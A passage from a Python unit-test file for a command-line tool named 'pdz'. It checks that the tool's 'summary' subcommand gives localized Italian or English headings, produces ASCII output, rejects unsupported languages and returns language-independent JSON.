        for language, heading in ((None, 'Partner principali'), ('it_IT', 'Partner principali'),
                                  ('en', 'Top partners'), ('de', 'Top partners')):
            status, out, err = pdz('summary', self.plans[language])
            self.assertEqual((status, err), (0, ''), language)
            self.assertIn('\n' + heading, out, language)
        _, out, _ = pdz('summary', '--lang', 'it', self.plans['en'])
        self.assertIn('\nPartner principali', out)
        _, out, _ = pdz('summary', '--lang', 'en', self.plans[None])
        self.assertIn('\nTop partners', out)

    def test_ascii(self):
        status, out, _ = pdz('summary', EXAMPLE, LC_ALL='C')
        self.assertEqual(status, 0)
        self.assertTrue(is_ascii(out))
        self.assertIn('19 obiettivi - 67 azioni', out)
        self.assertIn('    ... e altri 10', out)
        self.assertIn('#######...  70%', out)

    def test_unknown_language(self):
        for option in ('--lang', '--language', '-l'):
            status, out, err = pdz('summary', option, 'de', EXAMPLE)
            self.assertEqual(status, 2, option)
            self.assertEqual(out, '')
            self.assertTrue(err.startswith('pdz: summary: --lang: '), err)
            self.assertIn('“de”', err)
            self.assertIn('it, en', err)
        status, out, _ = pdz('summary', '--format', 'json', '--lang', 'de', EXAMPLE)
        self.assertEqual((status, out), (2, ''))
        # --lang is the documented name, --language an alias.
        _, out, _ = pdz('summary', '--help')
        self.assertIn('--lang', out)
        self.assertNotIn('--language', out)

    def test_json_has_no_language(self):
        _, default, _ = pdz('summary', '--format', 'json', EXAMPLE)
        for language in ('it', 'en'):
            status, out, _ = pdz('summary', '--format', 'json', '--lang', language, EXAMPLE)
            self.assertEqual(status, 0)
            self.assertEqual(out, default, language)
        summary = json.loads(default)
        self.assertEqual(summary['partners'][0]['roles'], 'participant')
        self.assertEqual([row['origin'] for row in summary['by-origin']], ['planned', 'extra'])


if __name__ == '__main__':
    unittest.main(verbosity=2)
